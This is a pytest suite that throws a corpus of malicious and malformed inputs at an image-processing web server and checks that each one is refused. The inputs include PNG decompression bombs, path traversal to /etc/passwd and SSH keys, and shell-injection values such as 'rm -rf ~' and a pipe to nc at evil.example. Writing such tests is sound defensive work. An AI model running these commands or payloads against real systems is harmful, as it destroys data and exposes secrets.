"""The bad-input corpus, run against a real uvicorn: every case is something a client can
get wrong (or try on purpose) over REST, the command builder or the WebSocket.

Each case must end in a 4xx whose JSON ``detail`` says what is wrong (REST), or an ``error``
frame / a close code (WebSocket); never a 5xx, never an error logged by the server, and
nothing may appear under the outputs root. The last test checks that after the whole
corpus the server still answers ``/healthz`` and runs a normal preview.

``test_api.py`` has the first 22 bad inputs; these are others (or the same idea reached by
another road: a header-only PNG bomb instead of a real big image, a directory symlink
instead of a file symlink).
"""

from __future__ import annotations

import io
import json
import logging
import os
import shlex
import struct
import zlib
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from PIL import Image

from playground_rt import schemas

from .conftest import SEED_IMAGE, Server, b64, encode, make_settings, running, sample_image
from .hubfixtures import client
from .rawclients import BINARY, CONTINUATION, PING, TEXT, frame, raw_http, raw_socket

KiB = 1024
MAX_BODY = 256 * KiB
MAX_IMAGE = 64 * KiB
FAKE_JOB = "preprocessing-" + "0" * 32
PREVIEW = "/api/pipelines/preview"
FALLBACK = "/api/pipelines/fallback"
BUILD = "/api/commands/build"
JSON = {"content-type": "application/json"}


# --- crafted files ------------------------------------------------------------------------

PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_claiming(width: int, height: int, *extra: bytes) -> bytes:
    """A valid-CRC PNG whose IHDR claims ``width`` x ``height``: tens of bytes, no pixels."""
    ihdr = png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    idat = png_chunk(b"IDAT", zlib.compress(b""))
    return PNG_SIGNATURE + ihdr + b"".join(extra) + idat + png_chunk(b"IEND", b"")


def text_bomb(kind: bytes) -> bytes:
    """A small PNG with a compressed text/ICC chunk that inflates to 64 MiB."""
    inflated = zlib.compress(b"\x00" * (64 << 20), 9)
    return png_claiming(4, 4, png_chunk(kind, b"k\x00\x00" + inflated))


def gif_claiming(width: int, height: int) -> bytes:
    screen = struct.pack("<HH", width, height) + b"\x00\x00\x00"
    image = b"," + struct.pack("<HHHH", 0, 0, 1, 1) + b"\x00\x02\x02\x44\x01\x00;"
    return b"GIF89a" + screen + image


def saved(fmt: str, **options: Any) -> bytes:
    buffer = io.BytesIO()
    sample_image(24, 16).save(buffer, fmt, **options)
    return buffer.getvalue()


PNG = encode(sample_image(24, 16))
JPEG = saved("JPEG")
BMP = saved("BMP")


def bmp_with_compression(value: int) -> bytes:
    return BMP[:30] + struct.pack("<I", value) + BMP[34:]


IMAGES = [
    pytest.param(
        b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF", 422, "allowed format", id="pdf"
    ),
    pytest.param(b'<svg xmlns="http://www.w3.org/2000/svg"/>', 422, "allowed format", id="svg"),
    pytest.param(saved("TIFF"), 422, "allowed format", id="tiff"),
    pytest.param(saved("ICO"), 422, "allowed format", id="ico"),
    pytest.param(
        b"8BPS\x00\x01" + bytes(6) + b"\x00\x03" + bytes(16), 422, "allowed format", id="psd"
    ),
    pytest.param(
        b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\nshowpage\n",
        422,
        "allowed format",
        id="eps",
    ),
    pytest.param(saved("PCX"), 422, "allowed format", id="pcx"),
    pytest.param(saved("PPM"), 422, "allowed format", id="ppm"),
    pytest.param(PNG[:16], 422, "image", id="png-cut-in-ihdr"),
    pytest.param(PNG[:33] + PNG[-12:], 422, "image", id="png-without-idat"),
    pytest.param(PNG[: len(PNG) // 2], 422, "image", id="png-cut-in-idat"),
    pytest.param(JPEG[:6], 422, "image", id="jpeg-cut-in-header"),
    pytest.param(JPEG[: len(JPEG) // 2], 422, "image", id="jpeg-cut-in-half"),
    pytest.param(saved("WEBP")[:16], 422, "image", id="webp-cut-in-header"),
    pytest.param(BMP[:18], 422, "image", id="bmp-cut-in-header"),
    pytest.param(bmp_with_compression(0x7F), 422, "image", id="bmp-unknown-compression"),
    pytest.param(text_bomb(b"zTXt"), 422, "image", id="png-ztxt-bomb"),
    pytest.param(text_bomb(b"iCCP"), 422, "image", id="png-iccp-bomb"),
    pytest.param(png_claiming(10_000, 10_000), 413, "pixels", id="bomb-100mp-warning-zone"),
    pytest.param(png_claiming(20_000, 10_000), 413, "pixels", id="bomb-200mp-error-zone"),
    pytest.param(png_claiming(1, 17_000_000), 413, "max_pixels", id="bomb-over-max-pixels"),
    pytest.param(gif_claiming(65_535, 65_535), 413, "pixels", id="gif-4gp-screen"),
]


# --- the server ---------------------------------------------------------------------------


class ErrorRecords(logging.Handler):
    """Every ERROR record the server logs (uvicorn's loggers do not propagate to root)."""

    def __init__(self) -> None:
        super().__init__(logging.ERROR)
        self.records: list[logging.LogRecord] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.records.append(record)


@dataclass
class Corpus:
    server: Server
    root: Path
    errors: ErrorRecords
    marker: Path
    cases: int = 0

    @property
    def outputs(self) -> Path:
        return self.server.settings.outputs_root


def tree(root: Path) -> dict[str, int]:
    return {str(p.relative_to(root)): p.lstat().st_size for p in sorted(root.rglob("*"))}


def plant(root: Path) -> None:
    """Files the path cases aim at: things outside the roots, links, a FIFO, a non-image."""
    data, outputs = root / "data", root / "outputs"
    outside = root / "outside"
    outside.mkdir()
    (outside / "secret.png").write_bytes(PNG)
    (outside / "model.onnx").write_bytes(b"not a model")
    evil = root / "data_evil"
    evil.mkdir()
    (evil / "secret.png").write_bytes(PNG)
    (root / "outputs_evil").mkdir()
    (root / "outputs_evil" / "model.onnx").write_bytes(b"x")
    datasets = data / "datasets"
    os.symlink(outside, datasets / "linked-dir")
    os.symlink("/dev/zero", datasets / "zero.png")
    os.symlink(datasets / "loop.png", datasets / "loop.png")
    os.mkfifo(datasets / "fifo.png")
    (datasets / os.fsdecode(b"bad\xe9name.png")).write_bytes(PNG)  # not UTF-8 (D4)
    (datasets / "notes.png").write_text("these are notes, not pixels\n")
    (datasets / "big.png").write_bytes(encode(sample_image(400, 400, seed=3)))
    assert (datasets / "big.png").stat().st_size > MAX_IMAGE
    checkpoints = outputs / "exp" / "checkpoints"
    checkpoints.mkdir(parents=True)
    (checkpoints / "epoch=3.pth").write_bytes(b"torch")
    (checkpoints / "model").write_bytes(b"no suffix")
    (checkpoints / "dir.onnx").mkdir()
    os.symlink(outside / "model.onnx", checkpoints / "escape.onnx")


@pytest.fixture(scope="module")
async def corpus(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Corpus]:
    root = tmp_path_factory.mktemp("corpus")
    settings = make_settings(root, max_body_bytes=MAX_BODY, max_image_bytes=MAX_IMAGE, workers=1)
    plant(root)
    async with running(settings) as srv:
        await srv.ready()
        errors = ErrorRecords()
        loggers = [logging.getLogger(), logging.getLogger("uvicorn")]
        for logger in loggers:
            logger.addHandler(errors)
        try:
            yield Corpus(srv, root, errors, root / "outside" / "executed")
        finally:
            for logger in loggers:
                logger.removeHandler(errors)


@pytest.fixture
def case(corpus: Corpus) -> Iterator[Corpus]:
    """One corpus case: outputs untouched, no error logged, counted."""
    before = tree(corpus.outputs)
    logged = len(corpus.errors.records)
    yield corpus
    assert tree(corpus.outputs) == before, "a refused request wrote under outputs"
    new = [r.getMessage() for r in corpus.errors.records[logged:]]
    assert not new, f"the server logged errors: {new}"
    assert not corpus.marker.exists(), "a command value was executed"
    corpus.cases += 1


def assert_refused(status: int, body: bytes, expected: int, fragment: str) -> None:
    assert status < 500, body
    assert status == expected, body
    detail = json.loads(body)["detail"]
    assert isinstance(detail, str) and fragment in detail, detail


async def post(corpus: Corpus, path: str, body: Any) -> tuple[int, bytes]:
    content = body if isinstance(body, bytes) else json.dumps(body).encode()
    response = await corpus.server.http.post(path, content=content, headers=JSON)
    return response.status_code, response.content


def request(**fields: Any) -> dict[str, Any]:
    return {"pipeline_id": "preprocessing", "image_path": SEED_IMAGE, **fields}


# --- REST: JSON, types, fields, params ----------------------------------------------------

nested = b'{"pipeline_id":"preprocessing","params":{"blur":' + b"[" * 5000 + b"]" * 5000 + b"}}"

REST = [
    pytest.param(
        PREVIEW,
        b'{"pipeline_id": "preprocessing"} trailing',
        400,
        "malformed JSON",
        id="trailing-garbage",
    ),
    pytest.param(
        PREVIEW,
        b'{"pipeline_id": "preprocessing", "params": {"sharpen": {"amount": NaN}}}',
        400,
        "malformed JSON",
        id="nan-literal",
    ),
    pytest.param(PREVIEW, b'{"pipeline_id": "\xff\xfe"}', 400, "malformed JSON", id="not-utf8"),
    pytest.param(PREVIEW, b"", 400, "malformed JSON", id="empty-body"),
    pytest.param(FALLBACK, b"[]", 422, "Expected `object`", id="array-body"),
    pytest.param(FALLBACK, nested, 400, "nested too deeply", id="nesting-5000-deep"),
    pytest.param(FALLBACK, {"pipeline_id": None}, 422, "$.pipeline_id", id="pipeline-null"),
    pytest.param(FALLBACK, {"pipeline_id": 7}, 422, "$.pipeline_id", id="pipeline-number"),
    pytest.param(
        FALLBACK, {"pipeline_id": "../rembg"}, 422, "$.pipeline_id", id="pipeline-traversal"
    ),
    pytest.param(FALLBACK, {"pipeline_id": "Rembg"}, 422, "$.pipeline_id", id="pipeline-uppercase"),
    pytest.param(
        FALLBACK,
        request(pipeline_id="segmentation"),
        404,
        "known: preprocessing, rembg",
        id="pipeline-unknown",
    ),
    pytest.param(FALLBACK, request(image_base64=12), 422, "$.image_base64", id="base64-number"),
    pytest.param(FALLBACK, request(params="blur"), 422, "$.params", id="params-string"),
    pytest.param(FALLBACK, request(taskId="a b;rm"), 422, "$.taskId", id="task-id-metachars"),
    pytest.param(FALLBACK, request(taskId="t" * 129), 422, "$.taskId", id="task-id-too-long"),
    pytest.param(
        FALLBACK,
        request(image_path=None, image_base64=None),
        422,
        "one of image_base64",
        id="image-both-null",
    ),
    pytest.param(
        FALLBACK,
        request(params={"blur": {"kernelSize": 3, "sigma": 2}}),
        422,
        "sigma",
        id="op-unknown-param",
    ),
    pytest.param(
        FALLBACK,
        request(params={"blur": {"kernelSize": True}}),
        422,
        "$.params.blur.kernelSize",
        id="bool-for-int",
    ),
    pytest.param(
        FALLBACK,
        request(params={"sharpen": {"amount": 5.5}}),
        422,
        "$.params.sharpen.amount",
        id="sharpen-amount-high",
    ),
    pytest.param(
        FALLBACK,
        request(params={"sharpen": {"radius": 0}}),
        422,
        "$.params.sharpen.radius",
        id="sharpen-radius-zero",
    ),
    pytest.param(
        FALLBACK,
        request(params={"crop": {"left": -1}}),
        422,
        "$.params.crop.left",
        id="crop-negative",
    ),
    pytest.param(
        FALLBACK,
        request(params={"resize": {"width": 0}}),
        422,
        "$.params.resize.width",
        id="resize-zero",
    ),
    pytest.param(
        FALLBACK,
        request(params={"resize": {"width": 8193}}),
        422,
        "$.params.resize.width",
        id="resize-over-max-side",
    ),
    pytest.param(
        FALLBACK,
        request(params={"resize": {}}),
        422,
        "at least one of width and height",
        id="resize-no-size",
    ),
    pytest.param(
        FALLBACK,
        request(params={"rotate": {"degrees": 45}}),
        422,
        "$.params.rotate.degrees",
        id="rotate-45",
    ),
    pytest.param(
        FALLBACK,
        request(params={"background_removal": "gpu"}),
        422,
        "$.params.background_removal",
        id="routing-unknown",
    ),
    pytest.param(
        FALLBACK,
        request(pipeline_id="rembg", params={"strength": "0.5"}),
        422,
        "$.params.strength",
        id="strength-as-string",
    ),
    pytest.param(
        FALLBACK,
        request(pipeline_id="rembg", params={"alpha_matting_erode_size": 41}),
        422,
        "$.params.alpha_matting_erode_size",
        id="erode-too-big",
    ),
    pytest.param(
        FALLBACK,
        request(pipeline_id="rembg", params={"bgcolor": [0, 0, 0]}),
        422,
        "$.params.bgcolor",
        id="bgcolor-three-items",
    ),
    pytest.param(
        FALLBACK,
        request(pipeline_id="rembg", params={"bgcolor": [0, 0, 0, 256]}),
        422,
        "$.params.bgcolor",
        id="bgcolor-256",
    ),
    pytest.param(
        FALLBACK,
        request(pipeline_id="rembg", params={"model": "../u2net"}),
        422,
        "$.params.model",
        id="model-traversal",
    ),
    pytest.param(
        FALLBACK,
        request(params={"resize": {"width": 8192, "height": 8192}}),
        413,
        "max_pixels",
        id="resize-output-67mp",
    ),
    pytest.param(
        "/api/metrics",
        {"durations_ms": {f"op{i}": 1.0 for i in range(33)}},
        422,
        "$.durations_ms",
        id="metrics-33-durations",
    ),
    pytest.param("/api/metrics", {"queue_depth": -1}, 422, "$.queue_depth", id="metrics-negative"),
    pytest.param("/api/metrics", {"source": "x" * 65}, 422, "$.source", id="metrics-source-long"),
]


@pytest.mark.parametrize(("path", "body", "status", "fragment"), REST)
async def test_rest_bad_input(
    case: Corpus, path: str, body: Any, status: int, fragment: str
) -> None:
    assert_refused(*await post(case, path, body), status, fragment)


BASE64 = [
    pytest.param("iVBORw0KGgo-_", 400, "not valid base64", id="urlsafe-alphabet"),
    pytest.param(
        b64(PNG)[:40] + "\n" + b64(PNG)[40:], 400, "not valid base64", id="newline-inside"
    ),
    pytest.param("abc", 400, "not valid base64", id="bad-padding"),
    pytest.param("data:image/png;base64,", 422, "empty", id="data-url-empty"),
    pytest.param(
        "data:text/plain;base64," + b64(b"hello"), 422, "allowed format", id="data-url-text"
    ),
    pytest.param("A" * (MAX_IMAGE * 4 // 3 + 8), 413, "max_image_bytes", id="over-max-image-bytes"),
]


@pytest.mark.parametrize(("text", "status", "fragment"), BASE64)
async def test_bad_base64(case: Corpus, text: str, status: int, fragment: str) -> None:
    body = {"pipeline_id": "preprocessing", "image_base64": text, "params": {"grayscale": True}}
    assert_refused(*await post(case, FALLBACK, body), status, fragment)


@pytest.mark.parametrize(("data", "status", "fragment"), IMAGES)
async def test_bad_image(case: Corpus, data: bytes, status: int, fragment: str) -> None:
    body = {"pipeline_id": "preprocessing", "image_base64": b64(data), "params": {"flip": True}}
    assert_refused(*await post(case, FALLBACK, body), status, fragment)


def test_the_warning_zone_bomb_is_tiny_and_pillow_only_warns() -> None:
    bomb = png_claiming(10_000, 10_000)
    assert len(bomb) < 80
    with pytest.warns(Image.DecompressionBombWarning), Image.open(io.BytesIO(bomb)) as image:
        assert image.size == (10_000, 10_000)  # the header alone was read


# --- paths --------------------------------------------------------------------------------

IMAGE_PATHS = [
    pytest.param("datasets/images/../../../../etc/hostname", 422, "'..'", id="dotdot-deep"),
    pytest.param("/proc/self/environ", 422, "relative", id="absolute-proc"),
    pytest.param(SEED_IMAGE + "\x00.png", 422, "NUL", id="nul-byte"),
    pytest.param("..\\..\\etc\\passwd", 422, "'..'", id="backslashes"),
    pytest.param("%2e%2e/%2e%2e/etc/passwd", 404, "does not exist", id="url-encoded-dotdot"),
    pytest.param("..%2f..%2fetc%2fpasswd", 404, "does not exist", id="url-encoded-slash"),
    pytest.param(
        "data_evil/secret.png", 404, "does not exist under the data root", id="prefix-sibling"
    ),
    pytest.param("../data_evil/secret.png", 422, "'..'", id="prefix-sibling-dotdot"),
    pytest.param(
        "data/datasets/linked-dir/secret.png", 422, "outside its root", id="symlinked-dir-out"
    ),
    pytest.param("data/datasets/zero.png", 422, "outside its root", id="symlink-dev-zero"),
    pytest.param("data/datasets/loop.png", 422, "image_path", id="symlink-loop"),
    pytest.param("data/" + "n" * 300 + ".png", 404, "does not exist", id="name-too-long"),
    pytest.param("data/datasets", 404, "does not exist", id="a-directory"),
    pytest.param("data/datasets/fifo.png", 404, "does not exist", id="a-fifo"),
    pytest.param(
        "data/\uff44\uff41\uff54\uff41\uff53\uff45\uff54\uff53/\uff0e\uff0e/\uff0e\uff0e/etc",
        404,
        "does not exist",
        id="fullwidth-dots",
    ),
    pytest.param("~root/.ssh/id_rsa", 404, "does not exist", id="tilde"),
    pytest.param("data/datasets/notes.png", 422, "allowed format", id="text-named-png"),
    pytest.param("data/datasets/big.png", 413, "max_image_bytes", id="file-over-max-image-bytes"),
]


@pytest.mark.parametrize(("path", "status", "fragment"), IMAGE_PATHS)
async def test_bad_image_path(case: Corpus, path: str, status: int, fragment: str) -> None:
    body = {"pipeline_id": "preprocessing", "image_path": path, "params": {"grayscale": True}}
    assert_refused(*await post(case, FALLBACK, body), status, fragment)


CHECKPOINTS = [
    pytest.param("outputs/../data/model.onnx", 422, "'..'", id="dotdot"),
    pytest.param("/etc/passwd.onnx", 422, "relative", id="absolute"),
    pytest.param("outputs/exp/checkpoints/escape.onnx", 422, "outside its root", id="symlink-out"),
    pytest.param(
        "outputs_evil/model.onnx", 404, "does not exist under the outputs root", id="prefix-sibling"
    ),
    pytest.param("outputs/exp/m.onnx\x00", 422, "NUL", id="nul-byte"),
    pytest.param("outputs/exp/checkpoints/epoch=3.pth", 422, "export it to ONNX", id="pytorch-pth"),
    pytest.param("outputs/exp/checkpoints/model", 422, ".onnx", id="no-suffix"),
    pytest.param("outputs/exp/checkpoints/dir.onnx", 404, "does not exist", id="a-directory"),
    pytest.param("outputs/" + "m" * 300 + ".onnx", 404, "does not exist", id="name-too-long"),
]


@pytest.mark.parametrize(("path", "status", "fragment"), CHECKPOINTS)
async def test_bad_checkpoint_path(case: Corpus, path: str, status: int, fragment: str) -> None:
    body = {"pipeline_id": "rembg", "image_path": SEED_IMAGE, "checkpoint_path": path}
    assert_refused(*await post(case, FALLBACK, body), status, fragment)


# --- body size ----------------------------------------------------------------------------


async def test_oversize_body_with_content_length(case: Corpus) -> None:
    body = json.dumps(request(taskId="big", params={"flip": True})) + " " * MAX_BODY
    assert_refused(*await post(case, PREVIEW, body.encode()), 413, "max_body_bytes")


async def test_oversize_chunked_body(case: Corpus) -> None:
    async def chunks() -> AsyncIterator[bytes]:
        yield b'{"pipeline_id": "preprocessing", "image_base64": "'
        for _ in range(MAX_BODY // (16 * KiB) + 1):
            yield b"A" * (16 * KiB)

    response = await case.server.http.post(PREVIEW, content=chunks(), headers=JSON)
    assert_refused(response.status_code, response.content, 413, "max_body_bytes")


async def test_content_length_claiming_10_gb(case: Corpus) -> None:
    raw = (
        b"POST /api/pipelines/preview HTTP/1.1\r\nHost: 127.0.0.1\r\n"
        b"Content-Type: application/json\r\nContent-Length: 10000000000\r\n\r\n{}"
    )
    assert_refused(*await raw_http(case.server.url, raw), 413, "max_body_bytes")


async def test_wrong_method_and_unknown_route(case: Corpus) -> None:
    response = await case.server.http.get(PREVIEW)  # the "/" static mount answers it
    assert_refused(response.status_code, response.content, 404, "Not Found")
    response = await case.server.http.put("/api/commands/build", content=b"{}")
    assert_refused(response.status_code, response.content, 405, "Method Not Allowed")
    response = await case.server.http.delete("/api/jobs/" + FAKE_JOB)
    assert_refused(response.status_code, response.content, 404, "no job")


async def test_datasets_query_garbage(case: Corpus) -> None:
    for query in ({"limit": "1e3"}, {"offset": "-1"}, {"limit": "501"}, {"limit": "\uff10"}):
        response = await case.server.http.get("/api/datasets", params=query)
        assert_refused(response.status_code, response.content, 422, "limit")


async def test_datasets_listing_skips_names_that_are_not_utf8(case: Corpus) -> None:
    """FINDINGS D4: one file name that is not UTF-8 made the listing a 500 for everyone."""
    response = await case.server.http.get("/api/datasets", params={"limit": "500"})
    assert response.status_code == 200, response.text
    listed = {item["path"] for item in response.json()["items"]}
    assert "data/datasets/big.png" in listed and "data/datasets/notes.png" in listed
    assert not any("name.png" in p or "fifo" in p or "loop" in p for p in listed), listed


BAD_JOB_IDS = [
    pytest.param(b"preprocessing-..", id="dotdot"),
    pytest.param(b"preprocessing-%00", id="nul"),
    pytest.param(b"preprocessing-%2e%2e", id="encoded-dotdot"),
    pytest.param(b"preprocessing-" + b"0" * 32 + b"%0a", id="trailing-newline"),
    pytest.param(b"rembg-" + b"A" * 32, id="uppercase-hex"),
    pytest.param(b"nosuch-" + b"0" * 32, id="unknown-pipeline"),
    pytest.param(b"preprocessing-" + b"0" * 4000, id="long"),
]


@pytest.mark.parametrize("job_id", BAD_JOB_IDS)
@pytest.mark.parametrize("method", [b"GET", b"DELETE"])
async def test_bad_job_id(case: Corpus, method: bytes, job_id: bytes) -> None:
    """FINDINGS D3: ``..`` or a NUL byte in a job id reached the result store (500)."""
    raw = b"%s /api/jobs/%s HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" % (method, job_id)
    status, body = await raw_http(case.server.url, raw)
    assert_refused(status, body, 404, "no job")
    assert json.loads(body)["code"] == "unknown_job"


DATASET_FILES = [
    pytest.param("data/" + "x" * 300 + ".png", 404, "no image", id="name-too-long"),
    pytest.param("data/" + "d" * 300 + "/x.png", 404, "no image", id="folder-name-too-long"),
    pytest.param("data/datasets/fifo.png", 404, "no image", id="a-fifo"),
    pytest.param("data/datasets", 404, "no image", id="a-directory"),
    pytest.param("data/datasets/nothing.png", 404, "no image", id="missing"),
    pytest.param("data/datasets/zero.png", 422, "outside its root", id="symlink-dev-zero"),
    pytest.param("data/datasets/loop.png", 422, "cannot be resolved", id="symlink-loop"),
    pytest.param("data/../outside/secret.png", 422, "'..'", id="dotdot"),
    pytest.param("data/datasets/big.png", 413, "max_image_bytes", id="over-max-image-bytes"),
]


@pytest.mark.parametrize(("path", "status", "fragment"), DATASET_FILES)
async def test_bad_dataset_file(case: Corpus, path: str, status: int, fragment: str) -> None:
    """FINDINGS D14: a path part over 255 bytes raised ENAMETOOLONG from ``is_file`` (500)."""
    response = await case.server.http.get("/api/datasets/file", params={"path": path})
    assert_refused(response.status_code, response.content, status, fragment)


NOT_JSON = [
    pytest.param("text/plain", id="text-plain"),
    pytest.param("text/plain; charset=utf-8", id="text-plain-charset"),
    pytest.param("application/x-www-form-urlencoded", id="form"),
    pytest.param("multipart/form-data; boundary=x", id="multipart"),
    pytest.param("application/jsonp", id="jsonp"),
    pytest.param(None, id="none"),
]
POST_BODIES = [
    pytest.param(PREVIEW, request(params={"flip": True}, taskId="csrf"), id="preview"),
    pytest.param(FALLBACK, request(params={"flip": True}), id="fallback"),
    pytest.param(BUILD, {"values": {"image": SEED_IMAGE}}, id="build"),
    pytest.param("/api/metrics", {"source": "csrf"}, id="metrics"),
]


@pytest.mark.parametrize("content_type", NOT_JSON)
@pytest.mark.parametrize(("path", "body"), POST_BODIES)
async def test_post_bodies_must_be_json(
    case: Corpus, path: str, body: dict[str, Any], content_type: str | None
) -> None:
    """FINDINGS D15: a cross-site "simple" POST (no preflight) ran jobs."""
    headers = {} if content_type is None else {"content-type": content_type}
    response = await case.server.http.post(path, content=json.dumps(body), headers=headers)
    assert_refused(response.status_code, response.content, 415, "application/json")
    assert response.json()["code"] == "unsupported_media_type"


@pytest.mark.parametrize(
    "content_type", ["application/json; charset=utf-8", "Application/JSON", "application/json;"]
)
async def test_json_with_parameters_is_json(case: Corpus, content_type: str) -> None:
    body = json.dumps({"source": "charset"})
    response = await case.server.http.post(
        "/api/metrics", content=body, headers={"content-type": content_type}
    )
    assert response.status_code == 202, response.text


# --- command builder ----------------------------------------------------------------------

COMMAND_VALUES = [
    pytest.param("image", "x; rm -rf ~", id="semicolon"),
    pytest.param("image", "$(touch {marker})", id="command-substitution"),
    pytest.param("image", "`touch {marker}`", id="backticks"),
    pytest.param("image", "a | nc evil.example 9", id="pipe"),
    pytest.param("image", "x && touch {marker}", id="and-and"),
    pytest.param("image", 'it\'s "quoted"', id="quotes"),
    pytest.param("image", "a\ntouch {marker}", id="newline"),
    pytest.param("image", "*", id="glob"),
    pytest.param("out", "--help", id="leading-dashes"),
    pytest.param("model_home", "-rf", id="leading-dash"),
    pytest.param("out", "$HOME/${IFS}x", id="variables"),
]


@pytest.mark.parametrize(("option", "value"), COMMAND_VALUES)
async def test_command_values_stay_literal_words(case: Corpus, option: str, value: str) -> None:
    value = value.replace("{marker}", str(case.marker))
    values = {"pipeline": "rembg", "image": SEED_IMAGE, option: value}
    status, body = await post(case, BUILD, {"command": "playground-rt run", "values": values})
    assert status == 200, body
    built = schemas.CommandBuildResponse(**json.loads(body))
    assert shlex.split(built.command) == built.argv
    assert built.argv[:2] == ["playground-rt", "run"]
    words = [w for w in built.argv if w.endswith(value)]
    assert len(words) == 1, built.argv  # one literal word, maybe prefixed by a root or --flag=
    assert not words[0].startswith("-") or (words[0].startswith("--") and "=" in words[0])


COMMANDS_REFUSED = [
    pytest.param({"command": "bash", "values": {}}, 404, "unknown command", id="unknown-command"),
    pytest.param({"command": "x" * 201}, 422, "$.command", id="command-too-long"),
    pytest.param({"values": []}, 422, "$.values", id="values-array"),
    pytest.param(
        {"values": {"pipeline": "rembg; ls", "image": "x.png"}},
        422,
        "values.pipeline",
        id="choice-metachars",
    ),
    pytest.param(
        {"values": {"pipeline": "rembg", "image": "x.png", "workers": "1 && id"}},
        422,
        "values.workers",
        id="int-metachars",
    ),
    pytest.param(
        {"values": {"pipeline": "rembg", "image": "x.png", "params": "$(id)"}},
        422,
        "values.params",
        id="params-not-json",
    ),
    pytest.param({"values": {"pipeline": "rembg", "image": "a\x00b"}}, 422, "NUL", id="nul-byte"),
    pytest.param(
        {"values": {"pipeline": "rembg", "image": "x.png", "exec": "id"}},
        422,
        "values.exec",
        id="unknown-option",
    ),
    pytest.param(
        {"preview": {"pipeline_id": "rembg", "image_path": "../x.png"}},
        422,
        "'..'",
        id="preview-traversal",
    ),
    pytest.param(
        {"preview": {"pipeline_id": "rembg", "image_path": SEED_IMAGE, "params": {"strength": 9}}},
        422,
        "$.params.strength",
        id="preview-params",
    ),
]


@pytest.mark.parametrize(("body", "status", "fragment"), COMMANDS_REFUSED)
async def test_command_builder_refusals(
    case: Corpus, body: Any, status: int, fragment: str
) -> None:
    assert_refused(*await post(case, BUILD, body), status, fragment)


async def test_command_builder_warns_of_a_name_too_long(case: Corpus) -> None:
    image = "data/" + "x" * 300 + ".png"
    status, raw = await post(case, BUILD, {"values": {"pipeline": "rembg", "image": image}})
    assert status == 200, raw
    answer = json.loads(raw)
    assert any("does not exist" in warning for warning in answer["warnings"]), answer


# --- WebSocket ----------------------------------------------------------------------------


def submit(**fields: Any) -> dict[str, Any]:
    return {"type": "submit", "pipeline_id": "preprocessing", "params": {"flip": True}, **fields}


WS_FRAMES = [
    pytest.param(
        submit(image_path="data/../../etc/passwd"), "path_outside_root", id="submit-traversal"
    ),
    pytest.param(
        submit(pipeline_id="rembg", image_path=SEED_IMAGE, params={}, checkpoint_path="/x.onnx"),
        "path_outside_root",
        id="submit-absolute-checkpoint",
    ),
    pytest.param(submit(image_base64=b64(PNG[:16])), "invalid_image", id="submit-truncated-png"),
    pytest.param(
        submit(image_base64=b64(png_claiming(10_000, 10_000))), "too_large", id="submit-bomb"
    ),
    pytest.param(submit(image_base64=b64(saved("TIFF"))), "invalid_image", id="submit-tiff"),
    pytest.param(
        submit(image_path=SEED_IMAGE, params={"blur": {"kernelSize": 4}}),
        "invalid_params",
        id="submit-even-kernel",
    ),
    pytest.param(
        submit(image_path=SEED_IMAGE, shell="rm -rf /"), "invalid_frame", id="submit-extra-field"
    ),
    pytest.param(submit(image_path=SEED_IMAGE, mode="exec"), "invalid_frame", id="submit-bad-mode"),
    pytest.param({"type": "subscribe", "channel": "jobs"}, "invalid_frame", id="unknown-channel"),
    pytest.param(
        {"type": "subscribe", "job_id": "../../etc"}, "invalid_frame", id="job-id-traversal"
    ),
    pytest.param(
        {"type": "resume", "last_seq": 0, "taskIds": [f"t{i}" for i in range(257)]},
        "invalid_frame",
        id="resume-257-tasks",
    ),
    pytest.param(
        {
            "type": "resume",
            "last_seq": 0,
            "taskIds": [f"t{i}" for i in range(200)],
            "job_ids": [f"rembg-{i:032x}" for i in range(100)],
        },
        "bad_request",
        id="subscriptions-over-cap",
    ),
    pytest.param(
        {"type": "telemetry", "queue_depth": 10**7}, "invalid_frame", id="telemetry-out-of-range"
    ),
    pytest.param({"type": "cancel"}, "bad_request", id="cancel-nothing"),
    pytest.param('{"type": "subscribe", "taskId": "\\ud800"}', "bad_request", id="lone-surrogate"),
    pytest.param(
        '{"type": "submit", "pipeline_id": "rembg", "params": {"a": '
        + "[" * 5000
        + "]" * 5000
        + "}}",
        "bad_request",
        id="nesting-5000-deep",
    ),
    pytest.param(b'{"type": "ping", "ref": "\xff\xfe"}', "bad_request", id="binary-invalid-utf8"),
]


@pytest.mark.parametrize(("sent", "code"), WS_FRAMES)
async def test_ws_bad_frame(case: Corpus, sent: dict[str, Any] | str | bytes, code: str) -> None:
    async with client(case.server.ws_url) as c:
        await c.send(sent if isinstance(sent, str | bytes) else json.dumps(sent))
        error = await c.wait(schemas.Error)
        assert error.detail, error
        if code:
            assert error.code == code, error
        await c.barrier()  # the socket is still open and answering
        assert c.close_code is None


# Failing a connection may or may not send a close frame first (RFC 6455 §7.1.7): uvicorn's
# wsproto implementation drops the TCP stream on a framing error (None here).
FAIL = {1002, None}
FAIL_UTF8 = {1007, None}
WS_PROTOCOL = [
    pytest.param([frame(TEXT, b'{"type": "ping"}', masked=False)], FAIL, id="unmasked"),
    pytest.param([frame(0x3, b"x")], FAIL, id="reserved-opcode"),
    pytest.param([frame(TEXT, b'{"type": "ping"}', rsv=0b100)], FAIL, id="rsv1-without-extension"),
    pytest.param([frame(PING, b"p" * 126)], FAIL, id="ping-over-125"),
    pytest.param([frame(PING, b"p", fin=False)], FAIL, id="fragmented-ping"),
    pytest.param([frame(CONTINUATION, b"x")], FAIL, id="continuation-first"),
    pytest.param(
        [frame(TEXT, b'{"type": "ping", "ref": "\xc3\x28"}')], FAIL_UTF8, id="invalid-utf8"
    ),
    pytest.param([frame(BINARY, b"x" * (64 * KiB + 1))], {1009, 4009}, id="frame-over-limit"),
    pytest.param(
        [frame(TEXT, b"x" * (16 * KiB), fin=False)]
        + [frame(CONTINUATION, b"x" * (16 * KiB), fin=False) for _ in range(4)]
        + [frame(CONTINUATION, b"x", fin=True)],
        {1009, 4009},
        id="fragments-over-limit",
    ),
]


